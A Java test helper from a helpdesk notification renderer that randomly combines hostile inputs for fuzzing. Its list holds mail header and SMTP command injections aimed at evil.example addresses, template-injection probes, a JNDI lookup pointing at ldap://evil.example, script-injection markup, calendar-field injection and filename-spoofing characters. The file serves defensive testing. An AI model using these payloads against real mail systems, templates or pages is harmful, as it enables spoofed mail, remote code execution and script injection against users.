package be.ecolenumerique.helpdesk.notification.rendering;

import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.stream.Collectors;
import java.util.stream.IntStream;

/**
 * Texts that try to become headers, recipients, markup or code, put together by chance. {@code 7919*7907} is
 * {@link #PRODUCT} where somebody works it out. The characters U+010D and U+010A are CR and LF to a mail library that
 * keeps the low byte of a character alone (CVE-2025-7962).
 */
final class Hostile {
    static final String PRODUCT = "62615533";
    private static final List<String> PIECES = List.of(
            "\r\n",
            "\n",
            "\r",
            "\u010d\u010a",
            "\u0a0d\u0d0a",
            "\u2028",
            "\u2029",
            "\u0085",
            "\u000b\u000c",
            "\r\n ",
            "\r\n\t",
            "Bcc: victim@evil.example",
            "To: victim@evil.example",
            "Subject: other",
            "Content-Type: text/html",
            "\r\n\r\n<b>body</b>",
            "\r\n.\r\nMAIL FROM:<evil@evil.example>\r\nRCPT TO:<victim@evil.example>\r\nDATA\r\n",
            "\u010d\u010aRCPT TO:<victim@evil.example>\u010d\u010a",
            "\n.\n",
            "\r.\r",
            "=?utf-8?B?DQpCY2M6IHZpY3RpbUBldmlsLmV4YW1wbGU=?=",
            "=?utf-8?Q?=0D=0ABcc:_victim@evil.example?=",
            "=0D=0A",
            "%0d%0aBcc:victim@evil.example",
            "${7919*7907}",
            "#{7919*7907}",
            "*{7919*7907}",
            "{{7919*7907}}",
            "@{7919*7907}",
            "<%= 7919*7907 %>",
            "{{#blocks}}{{/blocks}}{{>layout}}{{{reference}}}",
            "${jndi:ldap://evil.example/x}",
            "<script>alert(1)</script>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=1>",
            "\"><a href=\"http://evil.example\">x</a>",
            "'-->]]></style></title>",
            "END:VEVENT\r\nEND:VCALENDAR\r\nBEGIN:VCALENDAR",
            "\r\nATTENDEE:mailto:victim@evil.example",
            ";X=\"y\":z,w\\n",
            "\u202egpj.exe\u2066",
            "\ud800",
            "\u0000\u0007\u001b[31m",
            "victim@evil.example",
            "<victim@evil.example>",
            "\"Nom\" <victim@evil.example>, other@evil.example",
            "é".repeat(10_000),
            "M".repeat(10_000),
            "Bonjour");

    private final Random chance;

    Hostile(Random chance) {
        this.chance = chance;
    }

    /** Something else in every field. */
    Typed typed() {
        return new Typed(
                text(), text(), text(), Optional.of(text()), text(), Optional.of(text()), Optional.of(text()), text());
    }

    /** Something that wants to be an address. */
    String address() {
        return "a" + text() + "@evil" + (chance.nextBoolean() ? text() : "") + ".example";
    }

    private String text() {
        return IntStream.range(0, 1 + chance.nextInt(5))
                .mapToObj(n -> PIECES.get(chance.nextInt(PIECES.size())))
                .collect(Collectors.joining(chance.nextBoolean() ? "" : "x"));
    }
}
